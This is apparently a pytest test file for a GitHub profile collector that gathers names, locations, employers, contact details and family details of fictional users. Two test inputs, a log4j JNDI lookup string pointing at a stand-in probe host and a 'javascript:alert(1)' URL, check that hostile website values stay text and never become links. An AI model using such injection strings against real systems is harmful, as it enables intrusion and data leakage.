"""GitHub collector: users API, social accounts, profile README, rate limits, URL forms."""

from __future__ import annotations

import pytest

import collectors
from collectors.base import LOGGED_IN_NOTE
from collectors.github import GitHubCollector, read_readme
from footprint.har import ReplayTransport, url_key
from footprint.http import Http
from footprint.models import Profile, Status
from tests.conftest import answer, capture, offline_http

C = GitHubCollector()
URL = "https://github.com/nell-okoro"
USER = "https://api.github.com/users/nell-okoro"
SOCIAL = "https://api.github.com/users/nell-okoro/social_accounts"
README = "https://raw.githubusercontent.com/nell-okoro/nell-okoro/HEAD/README.md"
JSON = "application/json; charset=utf-8"


def ok_table() -> dict:
    return {USER: answer(200, capture("github", "user.json"), JSON),
            SOCIAL: answer(200, capture("github", "social.json"), JSON),
            README: answer(200, capture("github", "readme.md"), "text/plain; charset=utf-8")}


def blocks(collected, field=None, **kw):
    return [b for b in collected.profile.blocks
            if (field is None or b.field == field) and all(getattr(b, k) == v for k, v in kw.items())]


def test_user_fields_are_read():
    got = C.collect(URL, offline_http(ok_table()))
    assert got.status is Status.OK
    assert LOGGED_IN_NOTE in got.detail
    assert [(b.text, b.hint) for b in blocks(got, "name")] == [("Nell Okoro", "name")]
    assert [b.text for b in blocks(got, "username")] == ["nell-okoro"]
    assert blocks(got, "bio")[0].text == "Data analyst. Opinions my own. Slides: https://slides.example/nell"
    assert [b.text for b in blocks(got, hint="employer")] == ["@fictional-constabulary-digital"]
    assert [(b.text, b.field) for b in blocks(got, hint="home_location")] == [("Basildon, Essex", "location")]
    assert [b.text for b in blocks(got, hint="email")] == ["nell.okoro@example.com"]
    assert [b.text for b in blocks(got, hint="website")] == ["nellokoro.example"]
    fields = {b.label: b.text for b in blocks(got, "profile_field")}
    assert fields == {"X": "X: @nell_codes_uk", "linkedin": "linkedin: https://www.linkedin.com/in/nell-okoro-example",
                      "mastodon": "mastodon: https://social.example/@nello"}
    me = {link.url for link in got.profile.links if link.rel == "me"}
    assert me == {"https://nellokoro.example", "https://x.com/nell_codes_uk", "https://slides.example/nell",
                  "https://www.linkedin.com/in/nell-okoro-example", "https://social.example/@nello"}


def test_readme_paragraphs_and_links():
    got = C.collect(URL, offline_http(ok_table()))
    about = [b.text for b in blocks(got, "about")]
    assert about[:3] == ["Hi, I'm Nell 👋", "LinkedIn", "About me"]
    assert "I'm a data analyst in Essex, born and raised in Southend. Mum to twin girls, Ada and Ife." in about
    assert "🔭 Working on crime-map-lite, a small mapping tool" in about
    assert "📫 Reach me at nell.okoro@example.com or see my blog" in about
    assert "⚡ Fun fact: I ran the Southend half in 2:05" in about
    assert "Language Years" in about and "Python 6" in about
    assert "whoami # nell" not in about  # a code block: a sample, as on the rendered page
    assert "Nell's stats" in about
    assert not any("profile README" in t or "<" in t or "](" in t or "**" in t for t in about)
    links = {link.url: link for link in got.profile.links}
    assert links["https://nellokoro.example/posts"].text == "my blog"
    assert links["https://nellokoro.example/posts"].rel == ""
    assert not any("github.com/nell-okoro" in u for u in links)                  # own repositories
    assert not any("github-readme-stats" in u or "shields.io" in u for u in links)  # images


def test_readme_plain_urls():
    profile = Profile(url=URL, platform="github")
    read_readme(profile, "# Me\n\nFind me on <https://social.example/@nello> and https://blog.example/me.\n", "nell")
    assert [link.url for link in profile.links] == ["https://social.example/@nello", "https://blog.example/me"]
    assert [b.text for b in profile.blocks] == ["Me", "Find me on https://social.example/@nello and https://blog.example/me."]


def test_readme_code_samples_are_not_the_owners_words():
    """A fenced code block in a profile README is a sample (a library's inputs, a fake test record),
    left out as the rendered page's reading leaves <pre> out; the prose around it is read."""
    readme = ("# Tomos\n\nBuilding postcode-tidy, a small lib for UK postcodes.\n\n"
              "```python\ntidy(\"cf10 1aa\")  # -> \"CF10 1AA\"\nrecord = {\"phone\": \"07700 900555\"}\n```\n\n"
              "Bluebirds fan, Grangetown lad.\n\n```\nunclosed https://sample.example/x\n")
    profile = Profile(url=URL, platform="github")
    read_readme(profile, readme, "tomos")
    assert [b.text for b in profile.blocks] == ["Tomos", "Building postcode-tidy, a small lib for UK postcodes.",
                                                "Bluebirds fan, Grangetown lad."]
    assert profile.links == []


def test_readme_html_text_links_and_contact_links():
    user = "https://api.github.com/users/owen-tarrant"
    readme = "https://raw.githubusercontent.com/owen-tarrant/owen-tarrant/HEAD/README.md"
    table = {user: answer(200, {"login": "owen-tarrant", "name": "Owen Tarrant", "location": "Carlisle"}),
             readme: answer(200, capture("github", "readme_html.md"), "text/plain; charset=utf-8")}
    got = C.collect("https://github.com/owen-tarrant", offline_http(table))
    assert got.status is Status.OK
    about = [b.text for b in blocks(got, "about")]
    assert about[:2] == ["Lighthouse at St Bees, painted by my son Alfie", "Hiya, I'm Owen 👋"]   # banner alt, <h1>
    assert "Mastodon @owent@town.example Email me Call me Profile views" in about                 # badge alt text
    assert "Backend developer at Example Water. Whitehaven born, living in Carlisle with my wife Jen 🌊" in about
    assert not any("<" in t or "](" in t for t in about)
    # mailto:/tel: links in HTML, in markdown and as <address> autolinks are e-mail and phone blocks
    assert [(b.text, b.label, b.field) for b in blocks(got, hint="email")] == [
        ("owen.tarrant@example.com", "Email me", "link"), ("owen@example.net", "mailto", "link"),
        ("owen.t.backup@example.com", "write to me", "link")]
    assert [(b.text, b.label) for b in blocks(got, hint="phone")] == [("+447700900377", "Call me")]
    # a fediverse handle stays text, never an e-mail block
    assert "Fediverse: @owent@town.example (not an e-mail address)" in about
    assert not any("owent@town.example" in b.text for b in blocks(got, hint="email"))
    links = {link.url: link for link in got.profile.links}
    assert links["https://town.example/@owent"].text == "Mastodon @owent@town.example"
    assert not any(u.startswith(("mailto:", "tel:")) for u in links)


def test_missing_readme_and_social_still_ok():
    got = C.collect(URL, offline_http({USER: answer(200, capture("github", "user.json"), JSON)}))
    assert got.status is Status.OK
    assert "no profile README" in got.detail
    assert not blocks(got, "about")


def test_404_is_not_found():
    got = C.collect(URL, offline_http({USER: answer(404, capture("github", "not_found.json"), JSON)}))
    assert got.status is Status.NOT_FOUND


def test_nothing_recorded_is_not_found():
    assert C.collect(URL, offline_http({})).status is Status.NOT_FOUND


def test_rate_limit_is_blocked_with_reset_time():
    table = {USER: answer(403, capture("github", "rate_limit.json"), JSON, x_ratelimit_remaining="0",
                          x_ratelimit_reset="1767225600")}
    got = C.collect(URL, offline_http(table))
    assert got.status is Status.BLOCKED
    assert got.detail == "GitHub rate limit reached, try again after 00:00 UTC on 01 Jan 2026"


def test_429_waits_once_then_blocked():
    waits: list[float] = []
    transport = ReplayTransport({("GET", url_key(USER)): answer(
        429, capture("github", "rate_limit.json"), JSON, Retry_After="5", x_ratelimit_remaining="0")})
    got = C.collect(URL, Http(transport, sleep=waits.append))
    assert waits == [5.0]
    assert got.status is Status.BLOCKED
    assert got.detail.startswith("GitHub rate limit reached, try again")


def test_other_403_is_blocked():
    got = C.collect(URL, offline_http({USER: answer(403, "{}", JSON)}))
    assert got.status is Status.BLOCKED
    assert "403" in got.detail


def test_live_network_stack(live_http, httpserver):
    httpserver.expect_oneshot_request("/users/nell-okoro").respond_with_data("", status=429, headers={"Retry-After": "0"})
    httpserver.expect_request("/users/nell-okoro").respond_with_data(capture("github", "user.json"), content_type=JSON)
    httpserver.expect_request("/nell-okoro/nell-okoro/HEAD/README.md") \
        .respond_with_data(capture("github", "readme.md"), content_type="text/plain; charset=utf-8")
    got = C.collect("https://www.github.com/nell-okoro?tab=repositories", live_http)
    assert got.status is Status.OK
    assert blocks(got, hint="home_location") and blocks(got, "about")


def test_saved_page_is_recognised_and_read():
    body = capture("github", "profile.html")
    assert collectors.recognise(body).name == "github"
    got = C.read_saved(body, URL)
    assert got.status is Status.OK
    assert [b.text for b in blocks(got, "name")] == ["Nell Okoro"]
    assert [b.text for b in blocks(got, "username")] == ["nell-okoro"]
    assert [b.text for b in blocks(got, hint="home_location")] == ["Basildon, Essex"]
    assert [b.text for b in blocks(got, hint="employer")] == ["@fictional-constabulary-digital"]
    assert any("born and raised in Southend" in b.text for b in blocks(got, "about"))
    assert {link.url for link in got.profile.links if link.rel == "me"} == {
        "https://nellokoro.example", "https://x.com/nell_codes_uk"}


@pytest.mark.parametrize("url", [
    "https://github.com/nell-okoro",
    "https://github.com/nell-okoro/",
    "https://www.github.com/nell-okoro",
    "https://github.com/nell-okoro?tab=repositories",
    "https://github.com/Nell-Okoro?utm_source=cv",
    "https://github.com/a",
])
def test_matches(url):
    assert C.match(url)
    assert collectors.find(url).name == "github"


@pytest.mark.parametrize("url", [
    "https://github.com/nell-okoro/crime-map-lite",
    "https://github.com/explore",
    "https://github.com/settings",
    "https://github.com/login",
    "https://github.com/about",
    "https://github.com/features",
    "https://github.com/",
    "https://github.com/-bad-name",
    "https://gist.github.com/nell-okoro",
    "https://nell-okoro.github.io/",
])
def test_does_not_match(url):
    assert not C.match(url)


@pytest.mark.parametrize("url, expected", [
    ("https://www.github.com/nell-okoro/", URL),
    ("https://github.com/nell-okoro?tab=repositories", URL),
    ("http://github.com/nell-okoro", URL),
])
def test_canonical(url, expected):
    assert C.canonical(url) == expected
    assert C.match(C.example)


def test_website_that_is_not_an_address_is_text_not_a_link():
    """The users API keeps the website field as typed: a log4j probe string is kept as text
    (the detectors still see it) but never becomes a linked account to follow."""
    user = "https://api.github.com/users/rhys-vantol"
    got = C.collect("https://github.com/rhys-vantol",
                    offline_http({user: answer(200, capture("github", "user_probe_website.json"), JSON)}))
    assert got.status is Status.OK
    assert [b.text for b in blocks(got, hint="website")] == ["${jndi:ldap://${hostName}.probe.example/a}"]
    assert got.profile.links == []


@pytest.mark.parametrize("typed,address", [
    ("nellokoro.example", "https://nellokoro.example"),
    ("http://blog.example.co.uk/about", "http://blog.example.co.uk/about"),
    ("https://xn--bcher-kva.example:8443/", "https://xn--bcher-kva.example:8443/"),
    ("${jndi:ldap://x.example/a}", None),
    ("my blog is down", None),
    ("localhost", None),
    ("javascript:alert(1)", None),
    ("ftp://files.example", None),
    ("https://", None),
])
def test_web_address(typed, address):
    from collectors.github import web_address

    assert web_address(typed) == address
